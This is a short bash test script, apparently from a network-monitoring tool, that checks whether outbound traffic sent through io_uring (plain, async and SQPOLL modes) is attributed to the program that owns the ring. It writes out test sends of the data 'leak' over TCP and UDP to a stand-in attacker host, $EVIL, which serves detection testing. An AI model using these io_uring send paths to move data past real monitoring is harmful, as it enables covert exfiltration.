# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash source=/dev/null disable=SC2086,SC2016,SC2154,SC2034
# L26: the kernel's threads send for a ring: it is the program that owns the ring.
. /snitch/leak/lib/leak.sh

leak_begin
n=0
for way in uring uring-async uring-sqpoll; do
	to=$F4
	[[ $((n++ % 2)) -eq 0 ]] || to=$F6
	way "$way, TCP" $EVIL tcp 80 $EVIL path $way $to 80 --data leak --wait 3000
	way "$way, UDP" $EVIL udp 80 $EVIL path $way $to 80 --udp --data leak --wait 3000
done
leak_done
